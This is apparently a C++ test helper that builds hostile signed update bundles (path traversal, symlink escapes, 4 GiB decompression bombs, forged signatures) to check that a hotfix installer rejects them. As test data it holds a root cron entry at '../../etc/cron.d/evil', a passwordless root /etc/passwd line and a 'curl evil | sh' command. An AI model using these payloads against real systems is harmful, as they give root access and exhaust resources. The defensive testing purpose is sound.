#include "tests/support/hostile_bundles.h"

#include <zstd.h>

#include <algorithm>
#include <cctype>
#include <cstdio>
#include <filesystem>
#include <nlohmann/json.hpp>
#include <stdexcept>

#include "manifests/bundle_reader.h"
#include "manifests/manifest_json.h"
#include "packager/bundle_writer.h"
#include "tests/support/pseudo_random.h"
#include "tests/support/raw_bundle.h"
#include "tests/support/temp_dir.h"

namespace hotfix::test {

namespace {

namespace fs = std::filesystem;
using Json = nlohmann::ordered_json;
using Type = RawEntry::Type;

constexpr std::int64_t kTime = 1700000000;
constexpr std::uint64_t kBomb = 4ULL << 30;  // what the bombs decompress to: 4 GiB
constexpr const char* kSystemJson =
    R"({"family": "linux", "product": "Debian GNU/Linux", "version": "12", "service_pack": 0,
        "architecture": "x64", "hotfixes": []})";

FileEntry file_entry(const std::string& name, const std::string& destination,
                     const std::string& content) {
  FileEntry f;
  f.name = name;
  f.destination = destination;
  f.size = content.size();
  f.timestamp = Timestamp(kTime);
  f.platform = Arch::kNeutral;
  return f;
}

// Writes `files` (path -> content) as a drop and builds the bundle of `m` from it.
std::string build(const std::string& dir, Manifest m,
                  const std::vector<std::pair<FileEntry, std::string>>& files,
                  const PrivateKey& key) {
  std::string drop = dir + "/drop-" + m.id;
  for (const auto& [entry, content] : files) {
    write_file(drop + "/" + entry.path(), content);
    m.architectures[Arch::kX64].push_back(entry);
  }
  m.bundle = BundleScope{Arch::kX64, std::nullopt, ""};
  std::string out = dir + "/" + m.id + "-x64.hotfix";
  write_bundle(m, drop, key, out);
  return out;
}

// One ustar header block; `size` may be anything up to 8 GiB - 1 (11 octal digits).
std::string ustar_header(const std::string& name, std::uint64_t size, char type) {
  std::string h(512, '\0');
  h.replace(0, name.size(), name);
  auto field = [&](std::size_t offset, std::size_t width, std::uint64_t value) {
    char text[32];
    std::snprintf(text, sizeof text, "%0*llo", static_cast<int>(width - 1),
                  static_cast<unsigned long long>(value));
    h.replace(offset, width - 1, text);
  };
  field(100, 8, 0644);
  field(108, 8, 0);
  field(116, 8, 0);
  field(124, 12, size);
  field(136, 12, 0);
  h[156] = type;
  h.replace(257, 8,
            std::string("ustar\0"
                        "00",
                        8));
  h.replace(148, 8, "        ");
  unsigned sum = 0;
  for (unsigned char c : h) sum += c;
  char checksum[8];
  std::snprintf(checksum, sizeof checksum, "%06o", sum);
  h.replace(148, 8, std::string(checksum, 6) + '\0' + ' ');
  return h;
}

std::string tar_file(const std::string& name, const std::string& content) {
  std::string out = ustar_header(name, content.size(), '0') + content;
  out.resize((out.size() + 511) / 512 * 512, '\0');
  return out;
}

std::string zstd_frame(const std::string& data) {
  std::string out(ZSTD_compressBound(data.size()), '\0');
  std::size_t n = ZSTD_compress(out.data(), out.size(), data.data(), data.size(), 3);
  if (ZSTD_isError(n)) throw std::runtime_error(ZSTD_getErrorName(n));
  out.resize(n);
  return out;
}

struct Builder {
  std::string dir;
  PrivateKey key = PrivateKey::generate();
  PrivateKey stranger = PrivateKey::generate();  // a key nobody trusts
  std::string good_text;                         // the good bundle's manifest.json
  Json good;                                     // the same, parsed
  std::vector<RawEntry> payloads;                // the good bundle's payload entries, in its order
  HostileCorpus corpus;

  std::string path_for(const std::string& name) const { return dir + "/bad/" + name + ".hotfix"; }

  // manifest.json and a signature of it by `signer` (the trusted key unless said otherwise).
  std::vector<RawEntry> head(const Json& doc, const PrivateKey* signer = nullptr) const {
    std::string text = doc.dump(2);
    return {{"manifest.json", text}, {"manifest.json.sig", (signer ? *signer : key).sign(text)}};
  }
  std::vector<RawEntry> good_entries() const {
    std::vector<RawEntry> all{{"manifest.json", good_text},
                              {"manifest.json.sig", key.sign(good_text)}};
    all.insert(all.end(), payloads.begin(), payloads.end());
    return all;
  }

  HostileCase& add(const std::string& name, const std::string& what, int exit_code,
                   const std::string& message, int verify_exit_code = -2,
                   const std::string& verify_message = "") {
    HostileCase c;
    c.name = name;
    c.what = what;
    c.bundle = path_for(name);
    c.exit_code = exit_code;
    c.message = message;
    // By default the packager refuses the bundle for the same reason, with the same words.
    c.verify_exit_code = verify_exit_code == -2 ? exit_code : verify_exit_code;
    c.verify_message = verify_exit_code == -2 ? message : verify_message;
    corpus.cases.push_back(c);
    return corpus.cases.back();
  }
  // A case whose bundle is these archive entries.
  HostileCase& raw(const std::string& name, const std::string& what,
                   const std::vector<RawEntry>& entries, int exit_code, const std::string& message,
                   int verify_exit_code = -2, const std::string& verify_message = "") {
    write_raw_archive(path_for(name), entries);
    return add(name, what, exit_code, message, verify_exit_code, verify_message);
  }
  // A case whose manifest is the good one changed by `edit`, signed by the trusted key, with
  // the good payloads.
  HostileCase& manifest(const std::string& name, const std::string& what,
                        const std::function<void(Json&)>& edit, int exit_code,
                        const std::string& message, int verify_exit_code = -2,
                        const std::string& verify_message = "") {
    Json doc = good;
    edit(doc);
    std::vector<RawEntry> entries = head(doc);
    entries.insert(entries.end(), payloads.begin(), payloads.end());
    return raw(name, what, entries, exit_code, message, verify_exit_code, verify_message);
  }
  // A case whose payload entries are the good ones changed by `edit`.
  HostileCase& payload(const std::string& name, const std::string& what,
                       const std::function<void(std::vector<RawEntry>&)>& edit, int exit_code,
                       const std::string& message) {
    std::vector<RawEntry> p = payloads;
    edit(p);
    std::vector<RawEntry> entries = head(good);
    entries.insert(entries.end(), p.begin(), p.end());
    return raw(name, what, entries, exit_code, message);
  }
  // A case whose bundle file is these bytes.
  HostileCase& bytes(const std::string& name, const std::string& what, const std::string& data,
                     int exit_code, const std::string& message, int verify_exit_code = -2,
                     const std::string& verify_message = "") {
    write_file(path_for(name), data);
    return add(name, what, exit_code, message, verify_exit_code, verify_message);
  }

  Json& file(Json& doc, std::size_t i) const { return doc["architectures"]["x64"]["files"][i]; }

  void destinations();
  void root_properties();
  void entry_types();
  void entry_sets();
  void contents();
  void compression();
  void bombs();
  void json_documents();
  void signatures();
  void applicability();
};

void Builder::destinations() {
  auto destination = [&](const std::string& name, const std::string& what, const std::string& value,
                         const std::string& message) {
    manifest(
        name, what, [&](Json& doc) { file(doc, 0)["destination"] = value; }, 2, message);
  };
  destination("destination-dotdot", "a destination with \"..\" components", "app/../../../etc",
              "manifest.json: architectures.x64.files[0].destination: \"app/../../../etc\" has a "
              "\"..\" component");
  destination("destination-absolute", "an absolute destination", "/etc/cron.d", "is absolute");
  destination("destination-backslash", "a destination with backslashes", "app\\..\\..\\etc",
              "contains a backslash");
  destination("destination-nul", "a destination with a NUL character",
              std::string("app\0/../../etc", 14), "contains a NUL character");
  destination("destination-overlong", "a destination of 5000 bytes", std::string(5000, 'd'),
              "is 5000 bytes long, more than 4096");
  destination("destination-drive-letter", "a destination with a drive letter",
              "C:/Windows/System32", "starts with a drive letter");
  auto name_case = [&](const std::string& name, const std::string& what, const std::string& value,
                       const std::string& message) {
    manifest(
        name, what, [&](Json& doc) { file(doc, 0)["name"] = value; }, 2, message);
  };
  name_case("name-dotdot", "a file named \"..\"", "..", "is not a file name");
  name_case("name-path", "a file name that is a path out of the root", "../../etc/passwd",
            "contains \"/\"");
  name_case("name-overlong", "a file name of 300 bytes", std::string(300, 'n'),
            "is 300 bytes long, more than 255");
  name_case("name-nul", "a file name with a NUL character", std::string("x.txt\0.so", 9),
            "contains a NUL character");
  // The installer's own places: a signed manifest may not write them, however it spells them.
  auto reserved = [&](const std::string& name, const std::string& what,
                      const std::string& directory, const std::string& file_name,
                      const std::string& message) {
    manifest(
        name, what,
        [&](Json& doc) {
          file(doc, 0)["destination"] = directory;
          file(doc, 0)["name"] = file_name;
        },
        2, message);
  };
  reserved("reserved-state-database", "a file that would replace the installer's database",
           "var/lib/hotfix", "state.db", "is the installer's own var/lib/hotfix");
  reserved("reserved-trusted-key", "a file that would add a trusted key", "Etc/Hotfix/trusted.d",
           "x.pub", "is the installer's own etc/hotfix");
  reserved("reserved-state-directory", "a file where the state directory goes", "var/lib", "hotfix",
           "is the installer's own var/lib/hotfix (or holds it)");
  reserved("reserved-reboot-flag", "a file that would forge the restart flag", "run",
           "reboot-required.pkgs", "is the restart flag the installer keeps");
  manifest(
      "destination-duplicate", "two files with the same destination",
      [&](Json& doc) {
        file(doc, 1)["name"] = file(doc, 0)["name"];
        file(doc, 1)["destination"] = file(doc, 0)["destination"];
      },
      2, "is already used by files[0]");
  // Names Windows takes for one, refused for every manifest (docs/manifest-format.md).
  auto twins = [&](const std::string& name, const std::string& what, const std::string& first,
                   const std::string& second, const std::string& message) {
    manifest(
        name, what,
        [&](Json& doc) {
          file(doc, 0)["name"] = first;
          file(doc, 1)["name"] = second;
          file(doc, 1)["destination"] = file(doc, 0)["destination"];
        },
        2, message);
  };
  twins("name-unicode-case", "two names equal ignoring Unicode case (\u00c9 and \u00e9)",
        "\xc3\x89t\xc3\xa9.txt", "\xc3\xa9T\xc3\x89.txt", "is already used by files[0]");
  twins("name-normalization", "two names equal once normalized (NFC and NFD)", "caf\xc3\xa9.txt",
        "cafe\xcc\x81.txt", "is already used by files[0]");
  manifest(
      "directory-two-spellings", "one directory spelled in two cases",
      [&](Json& doc) {
        file(doc, 0)["destination"] = "app";
        file(doc, 1)["destination"] = "App/data";
      },
      2, "spells the directory \"App\" otherwise than files[0]");
  manifest(
      "file-and-directory", "one path that is a file and a directory",
      [&](Json& doc) {
        file(doc, 1)["destination"] = file(doc, 0)["destination"].get<std::string>() + "/" +
                                      file(doc, 0)["name"].get<std::string>();
      },
      2, "which is the file of files[0]");
  manifest(
      "windows-device-name", "a manifest for the Windows family naming a device (AUX.txt)",
      [&](Json& doc) {
        doc["family"] = "windows";
        file(doc, 0)["name"] = "AUX.txt";
      },
      2, "is the reserved device name aux");
}

void Builder::root_properties() {
  // The bundle is the good one: each is refused for what the root holds.
  std::string good_bytes = read_file(corpus.good_bundle);
  bytes("root-directory-symlink-outside",
        "a directory on the target is a symbolic link pointing outside the root", good_bytes, 2,
        "path escapes the root through a symbolic link", 0)
      .prepare_root = [](const std::string& root) {
    fs::create_symlink("../../outside", root + "/app/data");
  };
  bytes("root-file-symlink", "the file to replace is a symbolic link on the target", good_bytes, 2,
        "is a symbolic link on the target", 0)
      .prepare_root = [](const std::string& root) {
    fs::remove(root + "/app/x.txt");
    fs::create_symlink("../../outside/victim.txt", root + "/app/x.txt");
  };
  bytes("root-directory-at-file", "a directory stands where the file goes", good_bytes, 2,
        "exists on the target but is not a regular file", 0)
      .prepare_root = [](const std::string& root) {
    fs::remove(root + "/app/x.txt");
    fs::create_directory(root + "/app/x.txt");
  };
  bytes("root-file-at-directory", "a file stands where a directory of the path goes", good_bytes, 2,
        "on the target is not a directory", 0)
      .prepare_root = [](const std::string& root) { write_file(root + "/app/data", "a file\n"); };
}

void Builder::entry_types() {
  struct Kind {
    const char* name;
    Type type;
    const char* words;
  };
  for (const Kind& k :
       {Kind{"symlink", Type::kSymlink, "a symbolic link"},
        Kind{"hardlink", Type::kHardlink, "a hard link"},
        Kind{"character-device", Type::kCharDevice, "a character device"},
        Kind{"fifo", Type::kFifo, "a FIFO"}, Kind{"directory", Type::kDirectory, "a directory"}}) {
    payload(
        std::string("payload-") + k.name, std::string("a payload entry that is ") + k.words,
        [&](std::vector<RawEntry>& p) {
          p[0].type = k.type;
          p[0].content = "/etc/passwd";
        },
        2, std::string("payload is ") + k.words + ", not a regular file");
  }
  std::vector<RawEntry> entries = good_entries();
  entries[0].type = Type::kSymlink;
  entries[0].content = "/etc/passwd";
  raw("manifest-symlink", "manifest.json is a symbolic link", entries, 2,
      "'manifest.json' is a symbolic link, not a regular file");
  entries = good_entries();
  entries[0].type = Type::kDirectory;
  raw("manifest-directory", "manifest.json is a directory", entries, 2,
      "expected 'manifest.json' here, found 'manifest.json/'");
}

void Builder::entry_sets() {
  payload(
      "entry-outside-payload", "an archive entry named ../../etc/cron.d/evil",
      [](std::vector<RawEntry>& p) {
        p.push_back({"../../etc/cron.d/evil", "* * * * * root sh\n"});
      },
      2, "../../etc/cron.d/evil: not a valid bundle: undeclared archive entry");
  payload(
      "entry-absolute-name", "an archive entry named /etc/passwd",
      [](std::vector<RawEntry>& p) {
        p.push_back({"/etc/passwd", "root::0:0::/:/bin/sh\n"});
      },
      2, "undeclared archive entry");
  payload(
      "payload-undeclared", "a payload the manifest does not declare",
      [](std::vector<RawEntry>& p) {
        p.push_back({"payload/" + to_hex(Sha256::of("evil")), "evil"});
      },
      2, "payload not declared by the manifest");
  payload(
      "payload-duplicated", "the same payload twice",
      [](std::vector<RawEntry>& p) { p.push_back(p[0]); }, 2, "payload appears twice");
  payload(
      "payload-name-upper-case", "a payload named by an upper-case SHA-256",
      [](std::vector<RawEntry>& p) {
        for (char& c : p[0].name)
          c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
        p[0].name.replace(0, 8, "payload/");
      },
      2, "payload name is not a lower-case SHA-256");
  payload(
      "manifest-twice", "a second manifest.json after the payloads",
      [&](std::vector<RawEntry>& p) {
        Json doc = good;
        doc["title"] = "a second manifest";
        p.push_back({"manifest.json", doc.dump(2)});
      },
      2, "manifest.json: not a valid bundle: undeclared archive entry");
  payload(
      "payload-missing", "a declared payload is missing",
      [](std::vector<RawEntry>& p) { p.pop_back(); }, 4, "is missing (needed by app/data/new.bin)");
  std::vector<RawEntry> entries = good_entries();
  std::rotate(entries.begin(), entries.begin() + 2, entries.end());
  raw("manifest-not-first", "the payloads come before manifest.json", entries, 2,
      "expected 'manifest.json' here, found 'payload/");
}

void Builder::contents() {
  payload(
      "payload-hash-mismatch", "a payload whose content differs from its hash (same size)",
      [](std::vector<RawEntry>& p) { p[1].content[1000] ^= 1; }, 4,
      "payload content does not match its SHA-256 (app/data/new.bin)");
  payload(
      "payload-longer", "a payload longer than the manifest says",
      [](std::vector<RawEntry>& p) { p[0].content += "and more"; }, 4,
      "payload size 20 differs from the manifest's 12 (app/x.txt)");
  payload(
      "payload-shorter", "a payload shorter than the manifest says",
      [](std::vector<RawEntry>& p) { p[0].content.pop_back(); }, 4,
      "payload size 11 differs from the manifest's 12 (app/x.txt)");
  // The tar header says the declared size; 64 KiB more follow in the archive. Reading stops at
  // the declared size, and what follows is not a valid entry.
  payload(
      "payload-header-short",
      "a payload whose tar header claims the declared size while more data follows",
      [](std::vector<RawEntry>& p) {
        p[0].declared_size = static_cast<long long>(p[0].content.size());
        p[0].content += std::string(64 << 10, 'A');
      },
      2, "not a valid bundle: Damaged tar archive after entry 'payload/");
}

void Builder::compression() {
  std::string good_bytes = read_file(corpus.good_bundle);
  write_raw_archive(path_for("gzip"), good_entries(), "gzip");
  add("gzip", "a gzip-compressed tar", 2, "gzip-compressed; a bundle is zstd-compressed");
  write_raw_archive(path_for("uncompressed-tar"), good_entries(), "none");
  add("uncompressed-tar", "an uncompressed tar", 2,
      "an uncompressed tar; a bundle is zstd-compressed");
  bytes("not-an-archive", "random bytes", pseudo_random(4096, 99), 2,
        "not a zstd stream (no zstd magic number)");
  bytes("empty-file", "an empty file", "", 2, "the file is empty");

  // The good bundle is a head frame (manifest and signature), a skippable frame, then the
  // payload frames.
  std::size_t head = ZSTD_findFrameCompressedSize(good_bytes.data(), good_bytes.size());
  if (ZSTD_isError(head)) throw std::runtime_error("the good bundle has no head frame");
  std::size_t gap =
      head + ZSTD_findFrameCompressedSize(good_bytes.data() + head, good_bytes.size() - head);
  struct Cut {
    const char* name;
    const char* where;
    std::size_t at;
    int exit_code;
    const char* message;
  };
  const std::size_t payload = gap + (good_bytes.size() - gap) / 2;
  for (const Cut& c : {
           Cut{"truncated-in-magic", "in the zstd magic number", 2, 2, "not a zstd stream"},
           Cut{"truncated-in-head", "in the middle of the manifest's frame", head / 2, 2,
               "not a valid bundle: Truncated zstd input"},
           Cut{"truncated-after-head", "right after the manifest's frame", head, 4,
               "is missing (needed by app/x.txt)"},
           Cut{"truncated-in-gap", "in the skippable frame after the manifest", head + 100, 2,
               "not a valid bundle: Truncated zstd input"},
           Cut{"truncated-after-gap", "right before the payload frames", gap, 4,
               "is missing (needed by app/x.txt)"},
           Cut{"truncated-in-payload", "in the middle of the payloads", payload, 2,
               "not a valid bundle: Truncated zstd input"},
           Cut{"truncated-last-byte", "one byte short", good_bytes.size() - 1, 2,
               "not a valid bundle: Truncated zstd input"},
       }) {
    bytes(c.name, std::string("the good bundle cut ") + c.where, good_bytes.substr(0, c.at),
          c.exit_code, c.message);
  }
  std::string flipped = good_bytes;
  flipped[head / 2] ^= 0x5a;
  bytes("corrupt-head-frame", "a flipped byte in the compressed manifest", flipped, 4,
        "damaged (it differs from what was signed): Zstd decompression failed");
  flipped = good_bytes;
  flipped[payload] ^= 0x5a;
  bytes("corrupt-payload-frame", "a flipped byte in the compressed payload", flipped, 4,
        "damaged (it differs from what was signed): Zstd decompression failed");
}

void Builder::bombs() {
  // manifest.json whose header and data say 4 GiB: refused at its header.
  bytes("manifest-bomb", "manifest.json decompressing to 4 GiB of zeros",
        zstd_frame(ustar_header("manifest.json", kBomb, '0')) + zstd_zero_frame(kBomb), 2,
        "'manifest.json' is larger than 16777216 bytes");
  // A pax extended header of 4 GiB before manifest.json.
  bytes("pax-header-bomb", "a pax extended header decompressing to 4 GiB of zeros",
        zstd_frame(ustar_header("PaxHeader/manifest.json", kBomb, 'x')) + zstd_zero_frame(kBomb), 2,
        "not a valid bundle: Special header too large");
  // A payload whose header and data say 4 GiB where the manifest says 12 bytes.
  std::string head = tar_file("manifest.json", good_text) +
                     tar_file("manifest.json.sig", key.sign(good_text)) +
                     ustar_header(payloads[0].name, kBomb, '0');
  bytes("payload-bomb", "a payload decompressing to 4 GiB of zeros (the manifest says 12 bytes)",
        zstd_frame(head) + zstd_zero_frame(kBomb), 4,
        "payload size 4294967296 differs from the manifest's 12 (app/x.txt)");
  // A signed manifest that declares a file of 1 PiB: the free-space check refuses it before
  // anything is staged.
  manifest(
      "declared-petabyte", "a signed manifest declaring a file of 1 PiB",
      [&](Json& doc) { file(doc, 1)["size"] = 1ULL << 50; }, 7, "not enough free space", 4,
      "payload size 307200 differs from the manifest's 1125899906842624");
  // Sizes that overflow 64 bits when added up must not slip past the check.
  manifest(
      "declared-size-overflow", "a signed manifest declaring a file of 2^64 - 1 bytes",
      [&](Json& doc) { file(doc, 1)["size"] = ~0ULL; }, 7, "not enough free space", 4,
      "payload size 307200 differs from the manifest's 18446744073709551615");
}

void Builder::json_documents() {
  // 17 MiB of JSON, above the 16 MiB limit: refused at its tar header.
  manifest(
      "json-huge", "a manifest of 17 MiB",
      [](Json& doc) { doc["description"] = std::string(17 << 20, 'a'); }, 2,
      "'manifest.json' is larger than 16777216 bytes");
  auto text_case = [&](const std::string& name, const std::string& what, const std::string& text,
                       const std::string& message) {
    std::vector<RawEntry> entries{{"manifest.json", text}, {"manifest.json.sig", key.sign(text)}};
    entries.insert(entries.end(), payloads.begin(), payloads.end());
    raw(name, what, entries, 2, message);
  };
  std::string body = good.dump();
  body.pop_back();  // the closing brace
  text_case("json-deeply-nested", "a manifest with arrays nested 100000 deep",
            body + ", \"nest\": " + std::string(100000, '[') + std::string(100000, ']') + "}",
            "nesting deeper than 64");
  text_case("json-truncated", "a manifest that is not complete JSON",
            good_text.substr(0, good_text.size() / 2), "syntax error");
  text_case("json-duplicate-key", "a manifest with the key \"revision\" twice",
            body + ", \"revision\": 99}", "manifest.json: revision: duplicate key \"revision\"");
  manifest(
      "schema-2", "a manifest of format version 2", [](Json& doc) { doc["schema"] = 2; }, 2,
      "manifest.json: schema: 2 is not a supported schema version (expected 1)");
  manifest(
      "two-architectures", "a bundle manifest with a second architecture",
      [&](Json& doc) { doc["architectures"]["x86"] = doc["architectures"]["x64"]; }, 2,
      "manifest.json: architectures.x86: a bundle for x64 holds only that architecture");
  manifest(
      "file-without-sha256", "a bundle manifest file entry without its sha256",
      [&](Json& doc) { file(doc, 0).erase("sha256"); }, 2,
      "manifest.json: architectures.x64.files[0].sha256: missing");
  manifest(
      "unknown-field", "a manifest with a field the format does not have",
      [&](Json& doc) { file(doc, 0)["run_after_install"] = "/bin/sh -c 'curl evil | sh'"; }, 2,
      "manifest.json: architectures.x64.files[0].run_after_install: unknown field");
}

void Builder::signatures() {
  std::vector<RawEntry> entries = good_entries();
  entries.erase(entries.begin() + 1);
  raw("signature-missing", "no manifest.json.sig", entries, 3,
      "bundle is not signed: expected manifest.json.sig after manifest.json, found 'payload/");
  raw("signature-missing-only-manifest", "manifest.json alone", {{"manifest.json", good_text}}, 3,
      "bundle is not signed (no manifest.json.sig)");
  entries = good_entries();
  entries[1].content[10] ^= 1;
  raw("signature-bad", "a signature with one bit flipped", entries, 3,
      "bad signature: manifest.json does not match its signature by trusted key");
  entries = good_entries();
  entries[1].content.resize(10);
  raw("signature-short", "a signature of 10 bytes", entries, 3,
      "manifest.json.sig is 10 bytes, expected a 64-byte Ed25519 signature");
  entries = good_entries();
  entries[1].content.clear();
  raw("signature-empty", "an empty signature", entries, 3,
      "manifest.json.sig is 0 bytes, expected a 64-byte Ed25519 signature");
  {
    Json doc = good;
    doc["title"] = "something else";
    std::vector<RawEntry> e = head(doc);
    e[1].content = key.sign(good_text);  // the signature of the good manifest
    e.insert(e.end(), payloads.begin(), payloads.end());
    raw("signature-other-manifest", "the signature of a different manifest", e, 3,
        "bad signature: manifest.json does not match its signature by trusted key");
  }
  std::string stranger_id = stranger.public_key().fingerprint();
  {
    Json doc = good;
    doc["bundle"]["key_id"] = stranger_id;
    std::vector<RawEntry> e = head(doc, &stranger);
    e.insert(e.end(), payloads.begin(), payloads.end());
    raw("signature-unknown-key", "signed by a key nobody trusts", e, 3,
        "signed by an unknown key " + short_fingerprint(stranger_id));
    e = head(doc);  // names the stranger's key, signed by the trusted one
    e.insert(e.end(), payloads.begin(), payloads.end());
    raw("signature-key-id-mismatch", "signed by the trusted key but naming another key", e, 3,
        "manifest names key " + short_fingerprint(stranger_id) + " but was signed by");
  }
  entries = good_entries();
  entries[1].content = stranger.sign(good_text);  // claims the trusted key's id
  raw("signature-by-stranger-claiming-trusted-key",
      "signed by an untrusted key while naming the trusted one", entries, 3,
      "bad signature: manifest.json does not match its signature by trusted key");
  entries = good_entries();
  std::swap(entries[1], entries[2]);
  raw("signature-after-payload", "a payload between the manifest and its signature", entries, 3,
      "expected manifest.json.sig after manifest.json, found 'payload/");
}

void Builder::applicability() {
  manifest(
      "other-architecture", "a bundle for x86 on an x64 target",
      [](Json& doc) {
        Json files = doc["architectures"]["x64"];
        doc["architectures"] = Json::object({{"x86", files}});
        doc["bundle"]["architecture"] = "x86";
      },
      5, "the bundle is for x86; the target is x64", 0);
  manifest(
      "revision-lower", "revision 1 of KB200000 where revision 5 is installed",
      [](Json& doc) {
        doc["id"] = "KB200000";
        doc["revision"] = 1;
      },
      5, "revision 1 is lower than the installed revision 5", 0);
  manifest(
      "superseded", "a hotfix an installed one supersedes",
      [](Json& doc) { doc["id"] = "KB199999"; }, 5, "superseded by installed hotfix KB200000", 0);
  manifest(
      "prerequisite-missing", "a hotfix that needs a hotfix that is not installed",
      [](Json& doc) {
        doc["prerequisites"] = Json::object({{"hotfix_installed", "KB999999"}});
      },
      5, "KB200001: not applicable: needs hotfix KB999999 installed", 0);
}

}  // namespace

std::string zstd_zero_frame(std::uint64_t size) {
  constexpr std::uint32_t kBlock = 128 << 10;
  // Magic number; frame header: no content size, no checksum, window 128 KiB (2^(10+7)).
  std::string out("\x28\xb5\x2f\xfd\x00\x38", 6);
  do {
    std::uint32_t n = static_cast<std::uint32_t>(std::min<std::uint64_t>(size, kBlock));
    size -= n;
    std::uint32_t header = (n << 3) | (1u << 1) | (size == 0 ? 1u : 0u);  // an RLE block
    out += static_cast<char>(header & 0xff);
    out += static_cast<char>((header >> 8) & 0xff);
    out += static_cast<char>((header >> 16) & 0xff);
    out += '\0';  // the byte repeated
  } while (size != 0);
  return out;
}

void write_hostile_root(const std::string& root) {
  write_file(root + "/etc/hotfix/system.json", kSystemJson);
  write_file(root + "/app/x.txt", "old content\n");
  write_file(root + "/app/readme.txt", "left alone\n");
}

HostileCorpus build_hostile_corpus(const std::string& dir) {
  Builder b;
  b.dir = dir;
  fs::create_directories(dir + "/bad");
  write_key_pair(b.key, dir + "/trusted", true);
  b.corpus.trusted_key = dir + "/trusted.pub";

  Manifest installed;
  installed.id = "KB200000";
  installed.title = "the installed hotfix";
  installed.revision = 5;
  installed.languages = {"en-US"};
  installed.supersedes = {"KB199999"};
  std::string installed_text = "installed by KB200000\n";
  b.corpus.installed_bundle =
      build(dir, installed, {{file_entry("installed.txt", "app", installed_text), installed_text}},
            b.key);

  Manifest good;
  good.id = "KB200001";
  good.title = "the good bundle";
  good.languages = {"en-US"};
  std::string x = "new content\n", bin = pseudo_random(300 << 10, 7);
  b.corpus.good_bundle = build(
      dir, good,
      {{file_entry("x.txt", "app", x), x}, {file_entry("new.bin", "app/data", bin), bin}}, b.key);
  {
    TrustStore trust;
    trust.add(b.key.public_key());
    BundleReader reader = BundleReader::open_verified(b.corpus.good_bundle, trust);
    b.good_text = reader.manifest_json();
  }
  b.good = Json::parse(b.good_text);
  b.payloads = {{"payload/" + to_hex(Sha256::of(x)), x},
                {"payload/" + to_hex(Sha256::of(bin)), bin}};

  b.destinations();
  b.root_properties();
  b.entry_types();
  b.entry_sets();
  b.contents();
  b.compression();
  b.bombs();
  b.json_documents();
  b.signatures();
  b.applicability();
  return b.corpus;
}

}  // namespace hotfix::test
